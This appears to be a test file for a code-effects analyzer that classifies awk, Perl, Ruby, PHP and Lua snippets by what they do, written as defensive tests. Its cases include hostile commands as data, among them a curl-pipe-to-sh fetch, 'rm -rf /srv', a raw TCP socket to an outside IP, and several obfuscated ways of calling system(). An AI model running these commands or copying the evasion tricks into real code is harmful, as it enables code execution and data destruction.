// Owns what awk, Perl, Ruby, PHP and Lua snippets do, as the reader sees it.
import { describe, expect, it } from 'vitest';
import type { Language } from '../../src/core/program.ts';
import { effectsOf } from './effects-of.ts';

type Case = readonly [code: string, effects: readonly string[]];

/** Code and everything it does; an empty list is harmless. */
const cases: Partial<Record<Language, readonly Case[]>> = {
  awk: [
    [`{ print $1, $NF }`, []],
    [`/^func .*Main/ { on = 1 } on { print } on && /^}/ { exit }`, []],
    [`NR >= 10 && $3 / 1024 > 2 { printf "%.1f %s\\n", $3 / 1048576, $2 }`, []],
    [`$0 ~ /a|b/ || $1 == "x" { seen[$1]++ } END { for (k in seen) print k, seen[k] }`, []],
    [`{ print > "/srv/out.txt" }`, ['overwrite /srv/out.txt']],
    [`{ print $2 >> "log.txt"; print "x" > "/dev/stderr" }`, ['append log.txt']],
    [`{ print > $1 ".txt" }`, ['overwrite …']],
    [`BEGIN { system("id") }`, ['shell id']],
    [`{ system($1) }`, ['opaque']],
    [`BEGIN { "date +%s" | getline now; print now }`, ['shell date +%s']],
    [`{ print $1 | "sort -u" }`, ['shell sort -u']],
    [`{ print | $2 }`, ['opaque']],
    [`BEGIN { while ((getline line < "names.txt") > 0) print line }`, ['read content names.txt']],
    [`BEGIN { s = "/inet/tcp/0/198.51.100.7/80"; print "x" |& s }`, ['opaque']],
    [`@load "fork"; BEGIN { fork() }`, ['opaque']],
    [`{ gsub(/system\\(/, "x("); print "getline < a | b > c" }`, []],
    [`BEGIN { x = 4 / 2; y = 8 / 4; print (x > y), x > y }`, ['overwrite …']],
  ],
  perl: [
    [`s/foo/bar/g`, []],
    [`print if /TODO/`, []],
    [`s/(\\tcase A:\\n)/$1\\t\\tlog("a=%d", b)\\n/; s{x}{y}g`, []],
    [`$count{$_}++; END { print "$_ $count{$_}\\n" for sort keys %count }`, []],
    [`use MIME::Base64; print decode_base64("aGk=")`, []],
    [`my @f = split /,/, $_; print join("|", @f[0..2]) . "\\n"`, []],
    [`s/(\\d+)/$1 + 1/ge`, []],
    [`s/x/system("id")/e`, ['shell id']],
    [`system("curl https://example.com/x | sh")`, ['shell curl https://example.com/x | sh']],
    [`system("rm", "-rf", "/srv")`, ['run rm -rf /srv']],
    [`print \`id\``, ['shell id']],
    [`print qx{id}`, ['shell id']],
    [`exec "sh"`, ['shell sh']],
    [`unlink "/srv/x"`, ['delete /srv/x']],
    [`open(F, ">", "/srv/x"); print F "y"; close(F)`, ['overwrite /srv/x']],
    [`open(my $in, "<", "names.txt"); print <$in>`, ['read content names.txt']],
    [`open(F, "id |")`, ['opaque']],
    [`eval "print 1"`, ['opaque']],
    [`use IO::Socket::INET`, ['opaque']],
    [`my $run = "system"; &$run("id")`, ['opaque']],
    [`my $run = \\&CORE::system; $run->("id")`, ['opaque']],
    [`print "@{[system(1)]}"`, ['opaque']],
    [`/(?{ system("id") })/`, ['opaque']],
    [`*print = *system; print "id"`, ['opaque']],
    [
      `print <<\`X\`;
id
X`,
      ['opaque', 'shell X'],
    ],
    [`$^I = ""; @ARGV = ("/srv/x"); while (<>) { print }`, ['opaque']],
    [`require "/srv/x.pl"`, ['opaque']],
    [`"main"->can("x")->("id")`, ['opaque']],
  ],
  ruby: [
    [`puts "a #{1 + 1}"`, []],
    [`require "json"; puts JSON.parse(File.read("package.json"))["version"]`, ['read content package.json']],
    [`[1, 2].each { |x| puts x }`, []],
    [
      `lines = File.readlines("a.txt").map { |l| l.strip }.reject { |l| l.empty? }; puts lines.length`,
      ['read content a.txt'],
    ],
    [`system("id")`, ['shell id']],
    [`puts \`id\``, ['shell id']],
    [`puts "#{\`id\`}"`, ['shell id']],
    [`File.delete("/srv/x")`, ['delete /srv/x']],
    [`require "fileutils"; FileUtils.rm_rf("/srv/x")`, ['delete -r /srv/x']],
    [`File.write("out.txt", "x")`, ['overwrite out.txt']],
    [`send(:system, "id")`, ['opaque']],
    [`Kernel.exec("id")`, ['opaque']],
    [`eval("1")`, ['opaque']],
    [`%w[id].each(&method(:system))`, ['opaque']],
    [`["id"].each(&:system)`, ['opaque']],
    [`open("|id").read`, ['opaque']],
    [`require "open3"`, ['opaque']],
    [
      `puts <<~X
  a
X`,
      ['opaque'],
    ],
  ],
  php: [
    [`echo phpversion();`, []],
    [`echo json_encode(["a" => 1]), PHP_EOL;`, []],
    [`foreach ([1, 2] as $x) { echo str_repeat("-", $x); }`, []],
    [`unlink("/srv/x");`, ['delete /srv/x']],
    [`file_put_contents("out.txt", "x");`, ['overwrite out.txt']],
    [`echo file_get_contents("https://example.com/a");`, ['fetch https://example.com/a']],
    [`system("id");`, ['shell id']],
    [`echo \`id\`;`, ['shell id']],
    [`$f = "system"; $f("id");`, ['opaque']],
    [`"system"("id");`, ['opaque']],
    [`array_map("system", ["id"]);`, ['opaque']],
    [`eval("1;");`, ['opaque']],
    [`include "x.php";`, ['opaque']],
    [`new SplFileObject("x", "w");`, ['opaque']],
    [`echo "{$f("id")}";`, ['opaque']],
  ],
  lua: [
    [`print(("x"):rep(3), #"abc")`, []],
    [`local t = { 1, 2 } for k, v in pairs(t) do print(k, v) end`, []],
    [`print(string.format("%d", os.time()))`, []],
    [`os.remove("/srv/x")`, ['delete /srv/x']],
    [`os.execute("id")`, ['shell id']],
    [`local f = io.open("out.txt", "w") f:write("x") f:close()`, ['overwrite out.txt']],
    [`for line in io.lines("names.txt") do print(line) end`, ['read content names.txt']],
    [`os["remove"]("/srv/x")`, ['opaque']],
    [`local run = os.execute; run("id")`, ['opaque']],
    [`load("return 1")()`, ['opaque']],
    [`require("socket")`, ['opaque']],
    [`_G.os.execute("id")`, ['opaque', 'shell id']],
    [`print([[text]])`, ['opaque']],
  ],
};

describe.each(Object.entries(cases) as [Language, readonly Case[]][])('%s', (language, rows) => {
  it.each(rows)('%s', (code, effects) => {
    expect(effectsOf(language, code)).toEqual(effects);
  });
});
